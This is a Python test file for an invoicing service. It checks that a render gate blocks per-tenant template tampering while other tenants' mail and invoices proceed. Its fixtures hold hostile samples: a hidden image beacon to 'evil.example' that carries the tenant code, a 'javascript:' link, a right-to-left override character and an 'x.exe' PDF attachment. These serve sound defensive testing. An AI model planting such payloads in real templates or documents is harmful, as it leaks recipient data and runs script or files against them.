"""What a template makes for some tenants only is seen when it is made: it stops theirs, and nobody else's."""

import json
from dataclasses import replace

import pikepdf
import pytest

from invoicing.domain.delivery import Batch
from invoicing.domain.errors import PermanentFailureError
from invoicing.rendering.errors import RenderFailedError
from invoicing.rendering.invoice import InvoiceRenderer
from invoicing.rendering.mail import MailRenderer
from invoicing.rendering.sample import sample_invoice, sample_mail
from invoicing.rendering.templates import INVOICE_HTML, MAIL_HTML, load_shipped
from invoicing.services.agency.templates import add_version, lock_templates, show_template
from invoicing.services.delivery import render
from support.archive import archive_in
from support.ledger import Ledger
from support.relay import FaultyRelay

pytestmark = pytest.mark.faults


def save_for(ledger: Ledger, part: str, tenant: str, markup: str) -> None:
    """A template that shows ``markup`` to one tenant; its proof, which reads samples, would find nothing."""
    now = show_template(ledger.db, "default").template
    hidden = "{% if tenant.code == '" + tenant + "' %}" + markup + "{% endif %}</body>"
    parts = {**now.parts, part: now.parts[part].replace("</body>", hidden)}
    with ledger.db.transaction():
        lock_templates(ledger.db)
        add_version(ledger.db, "default", replace(now, parts=parts), actor="ana")


def test_a_message_that_would_load_something_stays_and_the_others_go(
    ledger: Ledger, relay: FaultyRelay
) -> None:
    save_for(ledger, MAIL_HTML, "T0002", '<img src="https://evil.example/{{ tenant.code }}.gif" alt="">')
    ledger.make(tenants=3)

    ending = ledger.send(relay.port)

    assert ending.ended == "permanent"
    assert "loads nothing from elsewhere" in ending.message
    assert ledger.row_states() == ["sent", "failed", "sent"]
    assert ledger.attempts().count(("refused_permanently", "connect", None)) == 1
    assert relay.accepted == 2
    ledger.check(relay.accepted_ids)


def test_a_document_that_would_run_something_is_not_kept_and_the_others_are(
    ledger: Ledger, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ledger, "store_documents", lambda *_: None)
    save_for(ledger, INVOICE_HTML, "T0002", '<a href="javascript:app.alert(1)">x</a>')
    ledger.make(tenants=3)
    batch = Batch("all", tuple(ledger.ids()))

    with pytest.raises(PermanentFailureError, match="javascript:app") as caught:
        render.render_batch(ledger.db, archive_in(ledger.folder / "archive"), ledger.run_id, batch)

    assert (caught.value.values["failed"], caught.value.values["all"]) == (1, 3)
    kept = ledger.db.execute(
        "SELECT t.code FROM invoicing.invoice_document d JOIN invoicing.invoice i ON i.id = d.invoice_id"
        " JOIN invoicing.tenant t ON t.id = i.tenant_id ORDER BY t.code"
    ).fetchall()
    assert [row["code"] for row in kept] == ["T0001", "T0003"]


def test_a_renderer_that_was_taken_over_cannot_pass_its_message_by_the_gate(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    document = sample_mail()
    html = '<p>x</p><img src="https://evil.example/a.gif">'
    sound = {"subject": "x", "text": "x", "html": html}
    answers = {
        "loads nothing from elsewhere": sound,
        "no complete message": {**sound, "html": ["x"]},
        "no complete message ": {**sound, "cc": "x"},
        "U\\+202E": {**sound, "html": "<p>x</p>", "text": "\u202ex"},
    }
    with MailRenderer(load_shipped(), "x") as renderer:
        for said, answer in answers.items():
            monkeypatch.setattr(renderer._process, "ask", lambda *_, a=answer: json.dumps(a).encode())
            with pytest.raises(RenderFailedError, match=said.strip()):
                renderer.render(document)
        monkeypatch.undo()
        assert renderer.render(document).html


def test_a_renderer_that_was_taken_over_cannot_pass_its_document_by_the_gate(
    monkeypatch: pytest.MonkeyPatch, tmp_path
) -> None:
    with InvoiceRenderer(load_shipped()) as renderer:
        path = tmp_path / "a.pdf"
        path.write_bytes(renderer.render(sample_invoice()))
        with pikepdf.open(path, allow_overwriting_input=True) as pdf:
            pdf.attachments["x.exe"] = b"MZ"
            pdf.save()
        monkeypatch.setattr(renderer._process, "ask", lambda *_: path.read_bytes())
        with pytest.raises(RenderFailedError, match="files and actions have no place"):
            renderer.render(replace(sample_invoice(), number="FV-1"))
